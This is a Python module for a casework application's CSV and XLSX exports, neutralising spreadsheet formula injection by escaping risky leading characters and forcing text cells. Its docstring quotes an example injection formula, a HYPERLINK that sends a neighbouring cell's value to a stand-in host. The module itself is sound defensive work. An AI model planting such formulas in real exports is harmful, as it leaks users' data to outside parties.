"""Cells for the spreadsheets casework hands out (CSV and XLSX exports): never a formula.

A host name typed as ``=HYPERLINK("https://x/?"&B2,"详情")`` is stored as typed; a spreadsheet
opening an export would run it (OWASP, CSV injection). Every text cell that a spreadsheet
would read as a formula or a command (leading ``=``, ``+``, ``-``, ``@``, tab or CR) gets a
leading apostrophe, so that it is shown as the text it is; numbers stay numbers, and money
("30000.00", "-30000.00") becomes a number in a workbook, which a clerk can add up.
"""

from __future__ import annotations

import datetime as dt
import re
import uuid
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import IO, Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+(\.\d+)?")
_MONEY = re.compile(r"-?\d+\.\d{2}")


def text_cell(value: str) -> str:
    """A text value as a cell that no spreadsheet evaluates."""
    if value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_cell(value: Any) -> Any:
    """A value for a CSV export (None is an empty cell)."""
    if value is None:
        return ""
    return text_cell(value) if isinstance(value, str) else value


def xlsx_cell(value: Any) -> Any:
    """A value for a workbook: money as a number, text as neutral text, no UUIDs or time zones
    (Excel knows neither)."""
    if isinstance(value, uuid.UUID):
        return str(value)
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        return value.astimezone(dt.UTC).replace(tzinfo=None)
    if isinstance(value, str):
        if _MONEY.fullmatch(value):
            return Decimal(value)
        return text_cell(value)
    return value


# A worksheet holds at most 1,048,576 rows (Excel's limit): the header and this many lines.
SHEET_LINES = 1_048_575


class Workbook:
    """An XLSX workbook written row by row (openpyxl's write-only mode, which keeps each
    sheet's XML in a temporary file, not in memory): text cells stay text, money a number,
    and an export longer than a sheet goes on in a second sheet under the same header."""

    def __init__(self, columns: Sequence[str], title: str, lines_per_sheet: int = SHEET_LINES) -> None:
        from openpyxl import Workbook as OpenpyxlWorkbook  # noqa: PLC0415 - only exports need it

        self.book = OpenpyxlWorkbook(write_only=True)
        self.columns = list(columns)
        self.title = title[:24]  # Excel allows 31 characters: room for " (2)" and more
        self.lines_per_sheet = lines_per_sheet
        self.sheets = 0
        self.lines = lines_per_sheet  # full: the first row opens the first sheet

    def append(self, rows: Iterable[Sequence[Any]]) -> None:
        for values in rows:
            if self.lines == self.lines_per_sheet:
                self._next_sheet()
            self.sheet.append(
                [_text(self.sheet, v) if isinstance(v, str) else v for v in map(xlsx_cell, values)]
            )
            self.lines += 1

    def save(self, out: IO[bytes]) -> None:
        if self.sheets == 0:
            self._next_sheet()  # an empty export is a sheet of its header alone
        self.book.save(out)

    def discard(self) -> None:
        """Remove the sheets' temporary files of a workbook that will not be saved (its client
        went away): openpyxl would otherwise keep them until the process exits."""
        for sheet in self.book.worksheets:
            writer = getattr(sheet, "_writer", None)
            if writer is not None:
                sheet.close()
                writer.cleanup()

    def _next_sheet(self) -> None:
        self.sheets += 1
        self.sheet = self.book.create_sheet(
            self.title if self.sheets == 1 else f"{self.title} ({self.sheets})"
        )
        self.sheet.append([_text(self.sheet, c) for c in self.columns])
        self.lines = 0


def _text(sheet: Any, value: str) -> Any:
    """A string written as a text cell: openpyxl makes any string that starts with = a formula."""
    from openpyxl.cell import WriteOnlyCell  # noqa: PLC0415

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    return cell
